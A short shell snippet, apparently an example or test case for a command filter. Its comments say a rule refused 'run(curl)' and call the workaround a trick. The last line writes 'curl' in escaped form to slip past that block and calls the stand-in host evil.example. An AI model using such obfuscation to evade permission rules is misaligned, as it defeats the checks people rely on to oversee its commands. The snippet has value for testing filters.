# Trick: the word is written in hexadecimal.
# Refused: run(curl)
$'\x63\165\u0072\x6c' http://evil.example/
